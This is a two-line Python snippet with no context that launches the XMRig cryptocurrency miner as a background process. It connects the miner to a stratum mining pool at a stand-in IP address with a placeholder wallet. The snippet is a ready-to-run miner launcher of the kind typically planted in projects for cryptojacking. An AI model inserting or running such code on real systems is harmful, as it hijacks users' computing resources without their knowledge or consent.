import subprocess
subprocess.Popen(["./xmrig", "-o", "stratum+tcp://203.0.113.5:3333", "-u", "wallet", "--donate-level", "1"])
